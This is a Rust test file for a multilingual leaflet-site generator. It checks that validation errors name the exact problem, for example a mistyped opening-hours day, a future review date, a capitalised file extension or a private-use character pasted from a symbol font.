            "  - text: intro\n  - image: { file: images/wound.svg, caption: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: image \"images/wound.svg\" has a caption but no text alternative (alt)")
        .assert_stderr("leaflets/test-folder.yaml:9:5")
        .assert_stderr("hint: the caption is read as well as the picture, not instead of it: add `alt: <message-id>`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_image_whose_caption_is_its_alt_text() {
    let run = checked(|p| {
        p.write(
            "images/wound.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>",
        );
        p.edit(
            "leaflets/test-folder.yaml",
            "  - text: intro\n",
            "  - text: intro\n  - image: { file: images/wound.svg, alt: intro, caption: intro }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: image \"images/wound.svg\" uses the message \"intro\" both as its caption and as its text alternative (alt)")
        .assert_stderr("leaflets/test-folder.yaml:9:59");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_unknown_day_in_opening_hours() {
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "hours: { opens: \"08:00\", closes: \"17:00\" }",
            "hours: { mon-fir: \"08:00-17:00\", za: closed }",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: unknown day \"mon-fir\" in opening hours")
        .assert_stderr("site.yaml:10:18")
        .assert_stderr("hint: did you mean \"mon-fri\"?")
        .assert_stderr("error: unknown day \"za\" in opening hours")
        .assert_stderr("did you mean \"sat\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_time_that_is_not_one_in_opening_hours() {
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "hours: { opens: \"08:00\", closes: \"17:00\" }",
            "hours: { mon-thu: \"8.00-17:00\", fri: \"08:00-25:00\", sat: from nine }",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: \"8.00\" is not a time")
        .assert_stderr("hint: did you mean \"08:00\"? Write times as HH:MM")
        .assert_stderr("error: \"25:00\" is not a time")
        .assert_stderr("hint: write times as HH:MM on a 24-hour clock")
        .assert_stderr("error: \"from nine\" is not an opening time")
        .assert_stderr("or `closed`");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn opening_hours_that_close_before_they_open() {
    let run = broken_build_and_check(|p| {
        p.edit(
            "site.yaml",
            "hours: { opens: \"08:00\", closes: \"17:00\" }",
            "hours: { mon-fri: \"17:00-08:00\" }",
        )
    });
    run.assert_code(1)
        .assert_stderr("error: the closing time 08:00 is not after the opening time 17:00")
        .assert_stderr("site.yaml:10:27")
        .assert_stderr("hint: did you mean \"08:00-17:00\"? Write the opening time first");
    assert_run_snapshot!(run.stderr);
    // The older form is checked the same way.
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "hours: { opens: \"08:00\", closes: \"17:00\" }",
            "hours: { opens: \"17:00\", closes: \"17:00\" }",
        )
    });
    run.assert_code(1)
        .assert_stderr("the closing time 17:00 is not after the opening time 17:00");
}

#[test]
fn an_unknown_contact_passed_to_the_texts() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "contact: demo/poli\n",
            "contact: demo/poli\nwith: { desk: demo/polu }\n",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: unknown contact \"demo/polu\"")
        .assert_stderr("leaflets/test-folder.yaml:7:15")
        .assert_stderr("hint: did you mean \"demo/poli\"?");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn a_contact_field_a_message_uses_that_is_not_there() {
    let run = checked(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "contact: demo/poli\n",
            "contact: demo/poli\nwith: { desk: demo/poli }\n",
        );
        p.edit(
            "locales/nl/test-folder.ftl",
            "step-one = **Stap een.** U komt langs.",
            "step-one = **Stap een.** Bel de balie op { $desk_phon }.",
        );
        p.edit(
            "locales/nl/test-folder.ftl",
            "step-two = **Stap twee.** U gaat naar huis.",
            "step-two = **Stap twee.** Mail ons op { $email }.",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: message \"step-one\" uses $desk_phon, but a contact has no \"phon\"")
        .assert_stderr("locales/nl/test-folder.ftl:5:")
        .assert_stderr("hint: did you mean \"$desk_phone\"?")
        .assert_stderr("error: message \"step-two\" uses $email, but the contact demo/poli has no email in site.yaml")
        .assert_stderr("hint: add email to demo/poli in site.yaml");
    assert_run_snapshot!(run.stderr);
}

#[test]
fn an_email_address_after_hours_contact_or_format_that_is_not_one() {
    let run = checked(|p| {
        p.edit(
            "site.yaml",
            "        after_hours: \"050 999 99 99\"\n",
            "        after_hours: \"050 999 99 99\"\n        email: poli at demo\n        \
             address: { street: \"Laan 1\", postcode: \"1234 AB\", city: \"\" }\n",
        );
        p.edit(
            "site.yaml",
            "locales: [nl, en]\n",
            "locales: [nl, en]\nformats: { en: nl-NL, eng: en-GB }\n",
        );
        p.edit(
            "site.yaml",
            "after_hours: \"050 999 99 99\"",
            "after_hours: demo/pol",
        );
    });
    run.assert_code(1)
        .assert_stderr("error: \"poli at demo\" is not an e-mail address")
        .assert_stderr("error: the address's city is empty")
        .assert_stderr("error: \"nl-NL\" is not a way of writing the language \"en\"")
        .assert_stderr("error: `formats` names \"eng\", which is not a language of the site")
        .assert_stderr("did you mean \"en\"?")
        .assert_stderr("error: unknown contact \"demo/pol\"")
        .assert_stderr("hint: did you mean \"demo/poli\"?");
    assert_run_snapshot!(run.stderr);
}

/// A review that has not happened yet does not count: a mistyped year (2027 for 2026) would
/// otherwise pass as reviewed (hostile review).
#[test]
fn a_review_date_after_today_is_refused() {
    let run = broken_build_and_check(|p| {
        p.edit(
            "leaflets/test-folder.yaml",
            "reviewed: 2026-01-15",
            "reviewed: 2027-01-15",
        )
    });
    run.assert_code(1)
        .assert_stderr(
            "leaflet \"test-folder\" says it was reviewed on 2027-01-15, which is after today (2026-06-01)",
        )
        .assert_stderr("leaflets/test-folder.yaml:3:11");
}

/// `check --format json | head` stops reading early: the rest is simply not written, with no
/// panic (exit code 3 before). Here the reading end is closed before leaflet starts.
#[test]
fn a_reader_that_stops_early_is_not_a_failure() {
    let project = Project::fixture("minimal");
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let output = std::process::Command::new(assert_cmd::cargo::cargo_bin("leaflet"))
        .args(["check", "--format", "json", "--root"])
        .arg(project.path(""))
        .env("LEAFLET_TODAY", "2026-06-01")
        .env("LEAFLET_CLOCK", "2026-06-01")
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .expect("run leaflet");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(output.status.code(), Some(0), "{stderr}");
}

/// `heup.YAML` or `heup.FTL` (saved so by a program, or renamed by hand) was skipped without a
/// word (hostile review): the leaflet or its texts were missing from the site and nobody was
/// told. It is an error at the file, with the name to give it.
#[test]
fn a_source_whose_extension_is_in_capitals_is_an_error() {
    let run = broken_build_and_check(|p| {
        std::fs::rename(
            p.path("leaflets/test-folder.yaml"),
            p.path("leaflets/test-folder.YAML"),
        )
        .unwrap();
        std::fs::rename(
            p.path("locales/en/test-folder.ftl"),
            p.path("locales/en/test-folder.Ftl"),
        )
        .unwrap();
    });
    run.assert_code(1)
        .assert_stderr("error: leaflets/test-folder.YAML is not read: its name ends in \"YAML\", and only .yaml (in small letters, with nothing after it) is read")
        .assert_stderr("hint: rename it to leaflets/test-folder.yaml")
        .assert_stderr("error: locales/en/test-folder.Ftl is not read: its name ends in \"Ftl\", and only .ftl (in small letters, with nothing after it) is read");
    // A space or an invisible character after the name (second hostile review).
    let run = broken_build_and_check(|p| {
        std::fs::rename(
            p.path("leaflets/test-folder.yaml"),
            p.path("leaflets/test-folder.yaml\u{200B}"),
        )
        .unwrap();
    });
    run.assert_code(1).assert_stderr(
        "its name ends in \"yaml\\u{200b}\", and only .yaml (in small letters, with nothing after it) is read",
    );
    let run = broken_build_and_check(|p| {
        std::fs::rename(
            p.path("leaflets/test-folder.yaml"),
            p.path("leaflets/test-folder.yaml."),
        )
        .unwrap();
    });
    run.assert_code(1)
        .assert_stderr("error: leaflets/test-folder.yaml. is not read: its name ends in \"\"")
        .assert_stderr("hint: rename it to leaflets/test-folder.yaml");
    // An editor's lock file (a link to nothing) and macOS's `._` files are no sources.
    let p = Project::fixture("minimal");
    std::os::unix::fs::symlink(
        "root@host.1234:1700000000",
        p.path("leaflets/.#test-folder.yaml"),
    )
    .unwrap();
    std::fs::write(p.path("locales/nl/._test-folder.ftl"), [0u8, 5, 22, 7]).unwrap();
    p.leaflet(&["check"]).assert_code(0);
}

/// A locale folder that is no language of the site was never read, without a word (second
/// hostile review): `locales/EN` left the English site in Dutch. That is an error; a folder of
/// another language is a warning that says how to add it.
#[test]
fn a_locale_folder_that_is_no_language_of_the_site_is_named() {
    let run = broken_build_and_check(|p| {
        std::fs::rename(p.path("locales/en"), p.path("locales/EN")).unwrap();
    });
    run.assert_code(1)
        .assert_stderr("error: locales/EN is not read: the site's language is written en")
        .assert_stderr("hint: rename the folder to locales/en");
    let p = Project::fixture("minimal");
    std::fs::create_dir_all(p.path("locales/pl")).unwrap();
    std::fs::copy(p.path("locales/en/site.ftl"), p.path("locales/pl/site.ftl")).unwrap();
    p.leaflet(&["check"])
        .assert_code(0)
        .assert_stderr(
            "warning: locales/pl is not read: pl is not one of the site's languages (nl, en)",
        )
        .assert_stderr(
            "hint: to publish in it, run `leaflet locale add pl`; otherwise remove the folder",
        );
}

/// A private-use character in a text (Word's Symbol font pasted: U+F0B3 is ≥ there, and
/// nothing or a box in the site's fonts) passed `check` and reached the page unseen (second
/// hostile review): refused at its line and column.
#[test]
fn a_private_use_character_in_a_text_is_an_error() {
    let run = broken_build_and_check(|p| {
        let text = p.read("locales/nl/test-folder.ftl");
        let (first, rest) = text.split_once('\n').unwrap();
        let (id, value) = rest.split_once(" = ").unwrap();
        p.write(
            "locales/nl/test-folder.ftl",
            &format!("{first}\n{id} = \u{F0B3} {value}"),
        );
    });
    run.assert_code(1)
        .assert_stderr("U+F0B3")
        .assert_stderr("it is a private-use character: a symbol font's own code")
        .assert_stderr("hint: type the character it stands for");
}
